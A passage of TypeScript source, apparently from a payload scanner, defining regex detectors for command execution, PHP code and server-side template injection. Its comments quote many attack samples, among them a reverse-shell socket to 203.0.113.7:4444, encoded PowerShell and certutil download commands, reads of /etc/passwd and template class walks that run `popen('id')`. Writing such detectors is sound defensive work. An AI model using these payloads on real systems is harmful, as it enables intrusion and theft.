  // `Net.Sockets.TCPClient('203.0.113.7',4444)`, Ruby's `TCPSocket.new("203.0.113.7","4444")`
  /\bsockets\s{0,4}\.\s{0,4}tcpclient\s{0,4}\(\s{0,4}['"][\w.:-]{3,60}['"]\s{0,4},\s{0,4}\d{2,5}\s{0,4}\)|\btcpsocket\s{0,4}\.\s{0,4}(?:new|open)\s{0,4}\(\s{0,4}['"][\w.:-]{3,60}['"]\s{0,4},\s{0,4}['"]?\d{2,5}/,
  /\bpowershell(?:\.exe)?\s+(?:-[a-z]+\s+(?:\S{1,20}\s+)?){0,4}(?:-e(?:nc|ncodedcommand)?\s+[a-z0-9+/=]{8}|iex\b|invoke-(?:expression|webrequest)|downloadstring)|\bcertutil(?:\.exe)?\s+-urlcache\b/,
  CMD_RUN,
  CODE_SINK,
  BARE_PROBE_SINK,
  /runtime\s*\.\s*getruntime\s*\(\s*\)\s*\.\s*exec|\bjava\.lang\.(?:runtime|processbuilder)\b|new\s+processbuilder\s*\(|\bscriptenginemanager\b/,
  /__import__\s*\(\s*['"](?:os|subprocess|pty)['"]|\bos\s*\.\s*(?:system|popen|exec[lv]p?e?)\s*\(|\bsubprocess\s*\.\s*(?:call|popen|run|check_output)\s*\(/,
  /require\s*\(\s*['"]child_process['"]\s*\)|process\s*\.\s*mainmodule\s*\.\s*require|child_process\s*(?:['"]\s*)?\)\s*\.\s*exec/,
  /\(\s*\)\s*\{\s*:\s*;\s*\}\s*;/,
  // (fifty-first round, the hundred-and-twenty-fifth part's misses) a whole value that breaks out of a string literal, then prints a marker
  // and comments the line's rest out (`';print('lv188code');//`, `";echo "x";#`): a scanner's proof that code it injected ran; a program's
  // own line does not open on the quote that closes the literal before it
  /^['"]\s{0,4}[;)]{1,3}\s{0,4}(?:print|echo|printf|print_r|var_dump|puts|console\s{0,4}\.\s{0,4}log)\s{0,4}\(?\s{0,4}(?:'[^'\n]{1,40}'|"[^"\n]{1,40}")\s{0,4}\)?\s{0,4};?\s{0,4}(?:\/\/|#|--)[^\n]{0,40}$/,
  // (thirty-first round: `{$_GET['cmd']}` closed or called at once, not a PHP block whose first statement reads a superglobal, `) {⏎ $_SERVER['x'] = …`)
  // code handed to an interpreter: eval('ls')  phpinfo()  (not an object's method: Ruby's `binding.eval('@x')`; thirty-first round: nor
  // a function of JSONata's or a scope's of AngularJS, `$eval('[1,2]')`, `$scope.$eval('a+b')`)  {$_GET["cmd"]}  <!--#exec cmd="id"-->
  /\b(?:echo|printf)\b[^\n]{0,200}>\s*[\w./-]{1,60}\.(?:php\d?|phtml|jsp|jspx|aspx?|sh|py|pl|cgi|htaccess)\b|(?<![.$])\b(?:eval|assert)\s*\(\s*['"][^'"]{1,80}['"]\s*\)|\bphpinfo\s*\(\s*\)|\{\s*\$_(?:get|post|request|cookie|server)\s*\[[^\]\n]{0,80}\]\s*[}(]|<!--\s*#\s*exec\s+(?:cmd|cgi)\s*=/,
  PHP_COMPLEX,
  // PHP code as a whole statement, or after a string's breakout: a built-in touching files on a quoted path, or the
  // `exit(md5('…'))` marker (`readfile("/etc/passwd");`  `echo file_exists("index.html");`  `';exit(md5('x'));//`)
  /^\s{0,10}(?:['"]?\s{0,10}[;.]\s{0,10}|\w{1,20}\s{0,4};\s{0,10})?(?:(?:echo|print)\s{1,10})?(?:print_r\s*\(\s*)?(?:readfile|file_get_contents|file_put_contents|file_exists|fileperms|chmod|copy|unlink|glob|highlight_file|show_source|exit|die)\s*\(\s*(?:md5\s*\(\s*)?['"][^'"\n]{1,200}['"][^;\n]{0,200}?\)\s*;?\s*(?:\/\/|#)?\s*$/,
  VARIABLE_SLICE,
  PIPE_TO_SHELL,
  ...PHP_CODE,
  RCE_CALLS,
]

/** Template injection: an expression in a template language's delimiters, not a bare placeholder. */
/**
 * (fifty-fifth round) A JSP page directive of the page's own settings only (`page language="java" contentType="text/html; charset=utf-8"
 * %>`, after `<%@`): no import, include or extends, and a source encoding, if named, UTF-8, Latin-1, windows-1252 or ASCII (review,
 * Jasper 9: `pageEncoding="Cp037"` makes the EBCDIC bytes after it a scriptlet). Written once, put where a pattern names it
 * (`withJspSettings`).
 */
const JSP_OWN_SETTINGS = String.raw`page(?:[ \t]{1,4}(?:(?:language|session|iselignored|buffer|autoflush|isthreadsafe|info|trimdirectivewhitespaces)[ \t]{0,4}=[ \t]{0,4}"[^"<>%$#{}\\\n]{0,100}"|contenttype[ \t]{0,4}=[ \t]{0,4}"[a-z]{1,20}\/[\w.+-]{1,40}(?:[ \t]{0,4};[ \t]{0,4}charset[ \t]{0,4}=[ \t]{0,4}(?:utf-8|iso-8859-1|windows-1252|us-ascii))?[ \t]{0,4}"|pageencoding[ \t]{0,4}=[ \t]{0,4}"(?:utf-8|iso-8859-1|windows-1252|us-ascii)")){1,10}[ \t]{0,4}%>`
/** The pattern with `JSP_OWN_SETTINGS` where its source names it. */
const withJspSettings = (re: RegExp): RegExp => new RegExp(re.source.replace('JSP_OWN_SETTINGS', JSP_OWN_SETTINGS), re.flags)
const SSTI = [
  // (sixtieth round, the spent hundred-and-forty-third part's misses) Spring's expression language reaching a class by its type operator and
  // calling into it (`${T(System).getenv()}`, `#{T(java.lang.Math).random()}`), and a class loaded by its name inside an expression
  // (`${classLoader.loadClass("Exploit").newInstance()}`, `${Class.forName(…)}`): calls into the runtime, no placeholder's data. No benign
  // value of any part holds either.
  /[$#*]\{\s{0,4}t\s{0,4}\(\s{0,4}[a-z_][\w.]{0,100}\s{0,4}\)\s{0,4}\.|[$#*]\{[^{}\n]{0,200}?\b(?:loadclass|forname)\s{0,4}\(/,
  // (fifty-sixth round) JSP's XML syntax for what `<% %>` and `<%@ include %>` do: the deployment descriptor included, forwarded to or
  // imported (`<jsp:include page="/WEB-INF/web.xml"/>`, `WEB-INF/web.xml?x=1`, padded: each printed the descriptor in Jasper), and a
  // scriptlet, an expression or a declaration element, anywhere, as `<% %>` is read (`hello <jsp:expression>7*7</jsp:expression>`).
  // Reviews: not a JSP page's own includes and imports (`/WEB-INF/views/header.jsp`, `../common/header.jsp`, JSTL's
  // `<c:import url="/WEB-INF/xml/books.xml">`), beans, nor a document naming an action (`Use <jsp:useBean> to …`); a climb to a system
  // file is path_traversal's
  new RegExp(String.raw`<(?:jsp:(?:include|forward|directive\s{0,4}\.\s{0,4}include)|c:import)\b${TAG_BODY}${ATTR_START}(?:page|file|url)\s*=\s*['"]\s*(?:[^'"<>]{0,200}?[/\\])?web-inf[/\\]web\.xml(?:[?;#]|['"])|<jsp:(?:scriptlet|expression|declaration)\s{0,4}>(?:[^<]|<(?!\/jsp:)){1,2000}<\/jsp:(?:scriptlet|expression|declaration)\s{0,4}>`),
  // (forty-eighth round) Handlebars' partial named by a climb of two levels or more (`{{>../../etc/passwd}}`; not `{{> ../partials/header}}`), and Mako's or Cheetah's Python introspection
  // (`${dir()}`, `${locals()}`): the template reads a file or lists its own scope
  /\{\{\s{0,4}>\s{0,4}['"]?(?:\.{1,2}[/\\]){0,4}\.\.[/\\]\.\.[/\\]|\$\{\s{0,4}(?:dir|locals|globals|vars)\s{0,4}\(\s{0,4}\)\s{0,4}\}/,
  // FreeMarker's built-ins that run or test (`${1/((1.0==1.0)?string('1','0')?eval)}`), Python reached from an
  // expression (`${__import__('os')…}`, Mako's `${emit(…)}`), a number divided by a comparison: a blind probe
  // that fails only when the comparison is false (`{{1 / ('2' + '3' == 5)}}`)
  /[$#]\{[^{}]{0,200}?(?:\?(?:eval|interpret)\b|\?string\s*\(|__import__\s*\(|\bemit\s*\()|(?:\{\{|\$\{)\s*\d{1,6}\s*\/\s*\(\s*[^{}]{0,80}?(?:==|[<>])/,
  // arithmetic probes: {{7*7}} ${7*7} #{7*7} *{7*7} <%= 7*7 %> @(7*7) {{7*'7'}} [[${7*7}]]
  // (twelfth round: several operations and a filter, {{7*7*7}} {{7*7|safe}})
  /(?:\{\{|\$\{|#\{|\*\{|@\(|\{%|<%=?|\{=|\[=)\s*['"]?\d{1,12}['"]?(?:\s*[*+/-]\s*['"]?\d{1,12}['"]?){1,4}\s*(?:\|\s*[a-z_]{2,20}\s*)?(?:\}\}|\}|\)|%>|%\}|\])/,
  // (twelfth round) Python's object walks in any template's delimiters (`${[].__class__}`), a literal's class walked (`#{''.class.mro[1]…}`)
  /[$#*@]\{[^{}]{0,200}?(?:__(?:class|mro|subclasses|globals|builtins|init)__|(?:''|""|\[\])\s*\.\s*class\s*\.)/,
  // (fourteenth round) two string literals joined as the whole expression, a probe that prints its marker only when
  // evaluated (`{{'okr'+'scn'}}`, `${"a"~"b"}`): a message's placeholders name data, they do not compute it
  /(?:\{\{|[$#*]\{)\s{0,4}(['"])[^'"{}\n]{1,40}\1\s{0,4}[+~]\s{0,4}(['"])[^'"{}\n]{1,40}\2\s{0,4}\}/,
  // (fourteenth round) Python's introspection walked inside `{{ … }}` whatever the braces between (`{{{}.__class__.__base__…}}`),
  // a class walked to its module's globals or a process (`#{config.class.init.globals['os'].popen('id')}`),
  // FreeMarker's special variables, which only its `${.name}` reads (`${.version}`, `${.data_model}`; thirtieth round: by their names,
  // BSD make's own variables are read the same way, `${.CURDIR}`, `${.OBJDIR}`)
  // (review: a class's name read in a program's string, `f"{{{self.__class__.__name__}}}"`, `"#{self.class.superclass}"`
  // in Ruby or Groovy, is no walk: the walk goes on from the class to its bases, subclasses or globals, or to a class loader)
  // (fifty-first round: from the last `{{` before the walk — the same values, and a run of braces is no longer read 200 characters on
  // from each of its `{{`, which cost 10 ms in a 16 KiB value)
  /\{\{(?:[^\n{]|\{(?!\{)){0,200}?(?:__(?:subclasses|globals|builtins)__|__(?:class|base|bases|mro)__\s{0,4}(?:\.\s{0,4}__(?:base|bases|mro|subclasses|init|globals)__|\[))[^\n]{0,200}?\}\}|[$#*@]\{[^{}\n]{0,200}?\.\s{0,4}class\s{0,4}\.\s{0,4}(?:init|mro|classloader|module\s{0,4}\.\s{0,4}classloader|forname|protectiondomain\s{0,4}\.\s{0,4}classloader)\b|[$#*@]\{[^{}\n]{0,200}?\bglobals\s{0,4}\[[^{}\n]{0,100}?\.\s{0,4}(?:popen|system|exec)\s{0,4}\(|\$\{\s{0,4}\.(?:version|data_model|globals|locals|main|namespace|node|now|(?:current_|main_|caller_)?template_name|lang|locale(?:_object)?|output_encoding|output_format|url_escaping_charset|vars|error|get_optional_template|auto_esc|incompatible_improvements|pass|time_zone|args)\s{0,4}[}?!]/,
  // Python/Jinja/Twig object walks and globals; a bare probe of the context object
  // (thirty-fourth round: Jinja's `namespace` anywhere but as a whole tag, `{{namespace}}`, a Kubernetes label a dashboard's legend names; review:
  // `{{ (namespace)[…] }}`, `{{namespace     [...]}}` are still read)
  // (thirty-fifth round: `config` not as a word in an n8n expression's node name, `{{ $('Config').item.json.chatId }}`; read anywhere else,
  // Pterodactyl's `{{config.docker.interface}}` too: Grav's templates read their settings the same way, `{{ config.plugins.email.mailer… }}`)
  // (thirty-second round: not inside a Hugo shortcode, `{{< ref "/admin/config#x" >}}`, which no template engine evaluates — `{{<` and `{{%` are
  // a syntax error in Jinja, Twig, Go's and Angular's templates —, nor an object's field named so, a Go template's
  // `{{ index .Config.Labels "x" }}` in a `docker inspect --format`)
  // (thirty-seventh round: `namespace` as an object's field, a dashboard legend's `{{k8s.namespace.name}}-{{k8s.pod.name}}`, is no Jinja global;
  // review: unless subscripted, called or filtered, `{{ x.namespace['__in'~'it__']['__glo'~'bals__']… }}` ran `id` where `x` held Jinja's globals)
  // (forty-first round: nor a word of another name, a dashboard legend's `{{temporal_namespace}}`, `{{ namespace_mode }}`: Jinja's names are whole words)
  // (thirty-seventh round: `{{app}}` alone is a message's placeholder in a document, `{{app}} is now enabled.` in every locale of a shop's
  // translations — still a probe in a short value outside one, SSTI_SHORT; and Jinja's `self` read for a field, a Django mail template's
  // `{{self.get_full_name}}`, is a block's or the model's name: `self` alone, or walked by a private name or any further expression
  // (`{{self._TemplateReference__context…}}`, `{{ self.x|attr(…) }}`), is still read; review: the template's context by its private name
  // anywhere, braces of a dictionary around it or not, `{{ {'k':{'j':self}}.k.j._TemplateReference__context }}`, and Twig's application
  // object's session, token or request however reached, `{{app.session.all|json_encode}}`, `{{app["request"]}}`, `{{attribute(app,"request")}}`)
  /\{\{\s*(?:request|self|config|this|settings|_self|session|g|_context)\s*\}\}|\{\{(?![<%])[^{}]{0,200}?(?:\.class\b|\.subclasses\s*\(|\.mro\s*\(|\.constructor\s*\(|\bapp\s{0,4}\.\s{0,4}(?:request|session|token)\b|\bapp\s{0,4}\[|\battribute\s{0,4}\(\s{0,4}app\b|\|\s*(?:filter|map|sort|reduce)\s*\(\s*['"](?:system|exec|passthru|shell_exec|popen)|_templatereference)|\{\{(?![<%])[^{}]{0,200}?(?:__class__|__mro__|__subclasses__|__globals__|__builtins__|__init__|__import__|\|attr\s*\(|(?<![\w-])(?<!(?:^|[^\w)\]])\.)(?<!\$\(\s{0,4}['"][^'"\n{}]{0,60})config(?![\w-])|\bself\b(?!\s{0,4}\.\s{0,4}[a-z]\w{0,40}(?:\s{0,4}\.\s{0,4}[a-z]\w{0,40}){0,4}\s{0,4}\}\})|request\s*\.\s*(?:application|environ|args)|lipsum|cycler|joiner|(?<!\.\s{0,4}|\w)namespace(?!\s{0,4}\}\}|\w)|(?<!\{\{\s{0,4}|\.\s{0,4}|\w)namespace(?!\w)|\.\s{0,4}namespace\s{0,4}[[(|]|url_for|get_flashed_messages|\b_self\b|\.env\b|\bgetclass\s*\()|_templatereference__context/,
  /\{\{[^{}]{0,80}?(?:__proto__|\bconstructor\s*\.\s*constructor\b)|[$#]\{[^{}]{0,40}\bclass\s*\.\s*get[a-z]{2,30}\s*\(|\{\{\s{0,10}this\s*\.\s*(?:pop|push|shift|unshift|splice)\b|\{\{[^{}]{0,200}?(?:\brequire\s*\(|child_process|\bprocess\s*\.\s*(?:mainmodule|binding|env)\b)|\{#\s*[^#]{0,200}#\}\s*\{\{/,
  // Java EL, Spring, Thymeleaf, FreeMarker, Velocity, OGNL
  // (thirtieth round: not an API Gateway mapping template's own Velocity, a variable set from its request's objects, `#set($inputRoot =
  // $input.path('$'))`, nor a loop over a variable's data, `#foreach($elem in $inputRoot.items)`: no Java reached, no arithmetic)
  /[$#*@]\{[^{}]{0,200}?(?:\bt\s*\(\s*java\.|\.getclass\s*\(|\.forname\s*\(|class\.forname|getruntime|processbuilder|\.exec\s*\(|new\s+java\.|\bruntime\b|request\.getsession|@java\.lang|#_memberaccess|\bapplicationscope\b|facescontext|\bheader\[|\bparam\[|\bcookie\[)|<#assign\b|\[#assign\b|\?new\s*\(\s*\)|freemarker\.template|#set\s*\(\s*\$(?![\w.]{1,40}[ \t]{0,4}=[ \t]{0,4}\$(?:input|util|context|stagevariables)\.(?!getclass|class\b)[a-z]\w{0,40}(?:[ \t]{0,4}\([ \t]{0,4}(?:'[^'()\n]{0,80}'|"[^"()\n]{0,80}")?[ \t]{0,4}\))?[ \t]{0,4}\))|#foreach\s*\((?![ \t]{0,4}\$\w{1,40}[ \t]{1,4}in[ \t]{1,4}\$(?![\w.]{0,60}class)[\w.]{1,60}(?:[ \t]{0,4}\([ \t]{0,4}\))?(?:\.(?!getclass|class\b)\w{1,40}(?:[ \t]{0,4}\([ \t]{0,4}\))?){0,3}[ \t]{0,4}\))|\$class\.inspect|\$\{\s{0,10}['"]?\s{0,10}freemarker/,
  // ERB, JSP, Smarty, Handlebars, Razor, Tornado, Mako, Groovy
  // (thirty-second round: `{{ module }}` alone is a message's placeholder, `In the module {{ module }} your webpack config…`: only a module reached is read)
  // (thirty-seventh round: a Razor number block, not PowerShell's array assigned to a variable on lines of its own, `$ConsoleColorToAnsi = @(⏎
  // 30 # Black`; review: Razor reads `x = @(System.IO.File.ReadAllText("web.config"))` and `$a = @(System.Environment.UserName)` in text)
  // (thirty-seventh round: Smarty's `{literal}` tag as it is written, closed after blanks at most, `{literal }` too, not a word opening a
  // MessageFormat 2 pattern, `.match $sel 1 {{literal select {$sel}}} * {{OTHER}}`)
  withJspSettings(/<%=?(?:[^%<]|<(?!%)){0,100}?\b(?:system|exec|shell|spawn|popen|eval|io\.popen|file\.read)\s*[.(]|\$\{\s*(?:new\s+[a-z]|string\s+[a-z]|\(\s*\(\s*char\s*\))|\$\{[^{}]{0,40}\bnew\b[^{}]{0,20}\(|\$\{\s*@asttest\b|\$\{(?:[^}$]|\$(?!\{)){0,80}\bchr\s*\(\s*i\s*\)|<%=?\s*(?:system|exec|eval|`|file\.|io\.|dir\.|require|%x|7\s*\*|\$|@(?![ \t]{0,4}JSP_OWN_SETTINGS)|request|runtime|new\s)|\{(?:php|literal\s{0,10}\}|\$smarty|system\s*\()|\{\{#with\s|\{\{#each\s[^}]{0,80}\blookup\b|@\((?:(?<!=[ \t]{0,3}@\()|(?<!\$[\w:]{1,60}[ \t]{0,3}=[ \t]{0,3}@\()|(?![ \t]{0,8}\r?\n))\s*(?:system|\d)|\{\{\s*(?:import|__import__)\b|\{\{\s*module\s*[.([]|\$\{\s*self\s*\.|\$\{\s*(?:\d{1,6}\s*(?:\*|\+(?!\s{0,4}['"]?\$))|['"][^'"]{0,40}['"]\s*\.)/),
  // (twenty-first round) an expression language reaching the request's, the session's or the application's objects and calling
  // their methods (`${request.getAttribute("c").add("cmd.exe")}`, `#{session.getAttribute("x").setAccessible(true)}`), and
  // Underscore's and Lodash's own object in an interpolation (`{{= _.VERSION}}`)
  /[$#]\{\s{0,4}(?:request|session|application|facescontext|pagecontext|servletcontext)\s{0,4}\.\s{0,4}(?:get|set|add|put|remove|invalidate)[a-z]{0,30}\s{0,4}\(|(?:\{\{|\$\{|<%)=\s{0,4}_\s{0,4}\.\s{0,4}[a-z]/,
  // (forty-ninth round) the Spring context's own beans, its environment and system properties, called from a Thymeleaf or SpEL expression
  // (`${@environment.getSystemProperties()}`; review: not an application's bean, a page's `${@featureFlags.isEnabled('beta')}`), and
  // Handlebars' `lookup` handed the constructor (`{{lookup constructor 'constructor'}}`, the start of its prototype chain to code)
  /[$*#]\{\s{0,4}@(?:environment|systemproperties|systemenvironment|applicationcontext|servletcontext)\s{0,4}\.\s{0,4}[a-z_]\w{0,40}\s{0,4}\(|\{\{\s{0,4}lookup\s[^{}]{0,80}?\bconstructor\b/,
]

/**
 * (fifty-first round) Django's tags that only name the page's own templates and tag libraries — `{% load static i18n %}`, `{% extends
 * "helpdesk/base.html" %}`, `{% include "partials/_tag.html" with ea_type="image" %}`: a library by its name, a template by a relative path
 * of plain segments in a folder of the application's, as Django names its templates (no climb, no absolute path; a bare `x.html`, what a
 * probe names, is still read: the thirty-third round's `{% include "x.html" %}`), arguments of plain literals or undotted names (second
 * review: Django calls a method a dotted lookup reaches, `with a=request.session.flush`); a Django
 * application's own pages sent as data (the hundred-and-twenty-sixth part's), which SSTI_TAG and SSTI_SHORT read as probes. A tag's text
 * after the `{%`, for a lookahead. (Fifty-second round: and a condition on one name of the application's data, dotted or negated, `{% if
 * helpdesk_settings.HELPDESK_ENABLE_ATTACHMENTS %}`, `{% if entry.Books.comments[0] %}` — no engine object (`request`, `config`,
 * `self`, …), no call, literal or operator but an index: a probe's condition computes or reaches.)
 * (Fifty-eighth round, the spent hundred-and-thirty-eighth part's: and Twig's, a template of a namespace the application registered,
 * `{% include '@molecules/callout/callout.twig' %}`, `{% extends '@hdbt/content/node.html.twig' %}`, a Drupal theme's component; and
 * Jekyll's, an include's file named without quotes with its parameters, `{%- include snippets/prepend-baseurl.html path=site.url -%}`,
 * `{% include functions.html func='log' %}` — a file of the site's own `_includes`, no climb nor root. Review: folders and one file
 * name, each a name of the application's (Twig reads `app.session.invalidate.html` as calls, Jinja `request.json` as a lookup), no `__`
 * (`a=__class__.__mro__`) and no number first (`7-7.html`).)
 */
/** a name of the application's data, not an engine's object (OWN_TEMPLATE_TAG) */
const OWN_NAME = String.raw`(?!(?:request|config|self|settings|app|session|g|lipsum|cycler|joiner|namespace|_self|_context|range|dict|url_for|get_flashed_messages)\b)`
/** (second review) a file's or a folder's name of such names joined by dashes (`prepend-baseurl`): Jinja and Twig read `-` as a subtraction of two names, `x-request` reads `request` */
const OWN_WORDS = String.raw`${OWN_NAME}(?!\w{0,60}__)[a-z_]\w{0,59}(?:-${OWN_NAME}(?!\w{0,60}__)[a-z_]\w{0,59}){0,8}`
const OWN_TEMPLATE_TAG = String.raw`if\s{1,4}(?:not\s{1,4})?${OWN_NAME}[a-z_]\w{0,40}(?:\.[a-z_]\w{0,40}|\[\d{1,4}\]){0,6}\s{0,4}-?%\}|load(?:\s{1,4}[a-z_][\w.]{0,40}){1,8}\s{0,4}-?%\}|(?:extends|include)\s{1,4}(?:"@?[\w-]{1,60}(?:\/[\w-][\w.-]{0,60}){1,8}\.(?:html|txt|xml|jinja2?|j2|twig)"|'@?[\w-]{1,60}(?:\/[\w-][\w.-]{0,60}){1,8}\.(?:html|txt|xml|jinja2?|j2|twig)')(?:\s{1,4}with(?:\s{1,4}[a-z_]\w{0,40}=(?:"[^"%{}\n]{0,80}"|'[^'%{}\n]{0,80}'|[a-z_]\w{0,60}|\d{1,9})){1,12}(?:\s{1,4}only)?)?\s{0,4}-?%\}|include\s{1,4}(?:${OWN_WORDS}\/){0,8}${OWN_WORDS}\.(?:html|md|markdown|js|css|scss|svg|liquid|txt|xml|json)(?:\s{1,4}(?!__)[a-z_]\w{0,40}=(?:"[^"%{}\n]{0,80}"|'[^'%{}\n]{0,80}'|${OWN_NAME}(?![\w.]{0,60}__)[a-z_][\w.]{0,60}|\d{1,9})){0,12}\s{0,4}-?%\}`
/** Jinja/Twig/Nunjucks tags: a probe anywhere but in a Markdown document, where they are its site generator's (`{% include 'x.html' %}`). */
const SSTI_TAG = new RegExp(String.raw`\{(?<!\{\{)%-?\s*(?!${OWN_TEMPLATE_TAG})(?:import|include|extends|set|for|if|print|debug|raw|do|macro|from|end(?:for|if|block|macro|set|raw|with|filter|autoescape|call))\b[^%]{0,200}?%\}`)

/**
 * Template probes judged only in a short value outside a document (a template's own syntax is what
 * documentation quotes): a delimiter holding only a number or a string literal (`{{7}}`, `<%=1%>`,
 * `${"x"}`), a scriptlet of any content (`<%= foo %>`), a Go template's field or function (`{{ .Password }}`,
 * `{{printf "%s" …}}`), a Mustache section or delimiter change (`{{#foo}}…{{/foo}}`, `{{=<% %>=}}`), a
 * filter given an argument (`{{ 7 | times:7 }}`), a method called in an expression (`{{'a'.concat('b')}}`),
 * any Django or Jinja tag (`{% widthratio 7 1 7 %}`), a Razor block (`@( … )`, `@{ … }`), Thymeleaf's
 * inlining and preprocessing (`[[${…}]]`, `__${…}__`), an EL scope object (`${sessionScope…}`), an
 * arithmetic probe left open (`{{ 7*7`), Django's settings (`{{settings.SECRET_KEY}}`), a class looked up
 * by name (`#{""["class"]}`), Node's process reached from an expression (`#{function(){…global.process…}()}`).
 * (thirty-second round: a Go template's field as a path's directory is a configuration's, `{{ .Virtenv }}/bin`, Devbox's plugins)
 * (fifty-first round: nor Django's tags that name the page's own templates and tag libraries, OWN_TEMPLATE_TAG)
 * (thirty-sixth round: a template's comment is no scriptlet — ERB's, EJS's and EEx's `<%# locals: (user:) %>` on one line, no other tag
 * closing after it nor a Mako control line (review: Mako's comment ends at the line's end, its block at the next `%>`: `<%# x %>⏎import
 * subprocess…⏎%>` ran; nor any other line break inside it), and
 * HEEx's `<%!-- Owners Card --%>` of words and blanks only (review: EJS runs `<%!-- include, new process.exit //--%>` as JavaScript;
 * words alone are no statement to it, nor to Mako's module block `<%! %>`))
 */
const SSTI_SHORT = [
  // (sixteenth round) an expression over number literals only, compared, joined or computed (`{{7<8}}`, `{{7 is 7}}`,
  // `{{7 in [7]}}`, `{{7*7 and 1}}`, `{{49//1}}`, `{{7**2}}`, `{{~-8}}`, `{{((7*7))}}`), a language's constant alone (`{{True}}`,
  // `{{None}}`): a placeholder names data; a literal piped to a filter or a filter named for a command (`{{'id'|system}}`,
  // `{{['o','s']|join}}`, `{{request|string}}`); a string literal operated on by FreeMarker (`${'test'?upper_case}`,
  // `${"x"*7}`, `${"test"[0]}`, `#{'.'*77}`); a function defined in the expression (`#{function(){return 7*7}()}`); Mako's namespace
  /(?:\{\{|[$#*]\{)\s{0,4}[(\[~-]{0,4}\s{0,4}\d{1,12}[)\]]{0,4}(?:\s{0,4}(?:\*\*|\/\/|[*+/%^|&<>=!-]{1,2}|\b(?:and|or|is|in|not|is not|not in)\b)\s{0,4}[(\[~-]{0,4}\s{0,4}\d{1,12}[)\]]{0,4}){1,4}\s{0,4}\}|\{\{\s{0,4}(?:true|false|none|null|nil)\s{0,4}\}\}|\{\{\s{0,4}(?:'[^'{}\n]{0,60}'|"[^"{}\n]{0,60}"|`[^`{}\n]{0,60}`|\[[^\]{}\n]{0,60}\])\s{0,4}\|\s{0,4}[a-z_]{2,20}|\{\{[^{}\n]{0,80}\|\s{0,4}(?:system|exec|passthru|shell_exec|popen|sh|bash|eval|string|safe)\s{0,4}\}\}|[$#]\{\s{0,4}(['"])[^'"{}\n]{0,40}\1\s{0,4}(?:\?[a-z_]{2,30}|\*\s{0,4}\d|\[\s{0,4}\d)|[$#]\{\s{0,4}function\s{0,4}\(|<%\s{0,4}namespace\b/,
  // (twelfth round) a function called as the expression (`{{include("index")}}`, `{{dump(app)}}`): a message's placeholders call nothing
  // (thirtieth round: but a translation's or a documentation macro's, by its name, called on words and numbers only, `{{ __('Save') }}`,
  // `{{ t("cart.empty") }}`, `{{cssxref("length")}}`, `{{EmbedLiveSample("Examples", 600)}}`; any other function, a name or an
  // expression as an argument is still read, `{{include("index")}}`, `{{ env("APP_KEY") }}`, `{{dump(app)}}`, `{{ t("${x}") }}`)
  // (fifty-ninth round, the spent hundred-and-fortieth part's: and dbt's reference to a model, `select * from {{ ref("stg_orders") }}`, a
  // project's SQL written in Jinja)
  /\{\{-?\s{0,4}(?:(?!(?:t|tr|_|__|trans|trans_choice|ref|gettext|ngettext|pgettext|translate|i18n|lang|[a-z]{0,12}xref|htmlelement|svgelement|mathmlelement|glossary|embedlivesample|embedghlivesample|httpheader|httpmethod|httpstatus|cssinfo|optional_inline|deprecated_inline|non-standard_inline|experimental_inline|readonlyinline)\s{0,4}\()[a-z_]\w{0,30}\s{0,4}\(|[a-z_]\w{0,30}\s{0,4}\((?!\s{0,4}(?:'[^'"{}\n\\$`]{0,80}'|"[^'"{}\n\\$`]{0,80}"|\d{1,6})(?:\s{0,4},\s{0,4}(?:'[^'"{}\n\\$`]{0,80}'|"[^'"{}\n\\$`]{0,80}"|\d{1,6})){0,3}\s{0,4}\)\s{0,4}-?\}\}))/,
  // (twelfth round) the engine's or framework's own objects read alone or by a field (`${config}`, `{{request.cookies}}`,
  // `{{handler.application}}`): a message's placeholders name the user's data, not these
  /(?:\{\{|[$#]\{)\s{0,4}(?:request|self|config|settings|app|_self|session|_context|context|handler|application)(?:\s{0,4}\.\s{0,4}[a-z_]\w{0,30}){0,3}\s{0,4}\}/,
  // (thirtieth round: not a CSS value definition's multiplier after a type or a group, `<calc-sum>#{3}`, `[ <number> ]#{2}`)
  /(?:\{\{|(?<![>\]])#\{|\*\{|@\{|\[\[|<%[=-]?)\s*(?:\d{1,6}|"[^"{}]{0,60}"|'[^'{}]{0,60}')\s*(?:\}\}|\}|\]\]|-?%>)|\$\{\s*(?:\d{2,6}|"[^"{}]{0,60}"|'[^'{}]{0,60}')\s*\}/,
  // (twenty-ninth round: not one name alone, a mailer's or a logger's placeholder, SendGrid's `<% body %>`, rsyslog's `<%pri%>`)
  // (fifty-fifth round: nor a JSP page directive of the page's own settings only, `<%@ page language="java" contentType="text/html;
  // charset=utf-8"%>`: no import, no code; a scriptlet or an expression after it is read; review, Jasper 9: no source encoding, a
  // `pageEncoding` or a `contentType` charset, other than UTF-8, Latin-1, windows-1252 or ASCII — `pageEncoding="Cp037"` makes the
  // EBCDIC bytes after it a scriptlet the compiler runs)
  withJspSettings(/<%(?!#[^\n\r\f\v\x1c-\x1e\x85\u2028\u2029%<>]{0,200}%>(?![^]{0,400}(?:%>|\n[ \t]{0,40}%)))(?!@[ \t]{0,4}JSP_OWN_SETTINGS)(?!!--[ \t]{1,4}[a-z0-9]{1,30}(?: [a-z0-9]{1,30}){0,10}[ \t]{1,4}--%>)(?:%[=-]?|[=-]?(?![ \t]{0,4}[a-z_][\w.-]{0,40}[ \t]{0,4}-?%>))[^%>]{0,120}-?%>|\{\{\s*\d{1,6}\s*[*+/-]\s*\d{1,6}\s*$|\{\{\s*settings\s*\.|[#$]\{[^{}]{0,80}\[\s*["']class["']|\{\{-?\s*(?:\.[a-z]\w{0,30}(?!\w)(?![ \t]{0,4}-?\}\}\/[\w.-])|(?:printf|println|print|html|js|urlquery|call|index|slice|template|define|block)\s+["'.$(])|\{\{[#^/][a-z][\w.-]{0,30}\s*\}\}|\{\{=[^{}=\s]{1,10}\s+[^{}=\s]{1,10}=\}\}/),
  // (thirty-first round: a tag's name ends at a blank or the tag's end, not a documentation tool's configuration header, Laika's `{%⏎laika.title: …⏎%}`;
  // thirty-first round: nor a Hugo shortcode, `{{% definition path="…" %}}`)
  // (thirty-first round: a Razor block, not PowerShell's array assigned or handed to a parameter, `$args = @(`, `-ArgumentList @('--x')`)
  // (thirty-seventh round: nor SCCS's what-string, `! @(#)fpm_strings::glob(3f): function compares…`, a source file's identification;
  // review: and a block right after a Razor comment, `@* x *@@(DateTime.Now)`, which the what-string's reading had caught by chance)
  // (thirty-eighth round: nor a block of one name, `"@{name}//:coverage".format(name = name)`, a Bazel label's placeholder: Razor compiles
  // no statement of a bare name, and Twirl writes the value out)
  // (fortieth round: nor an Odin attribute on a line of its own, `@(private)`, `@(require_results, enable_target_feature = "neon,sha3")`:
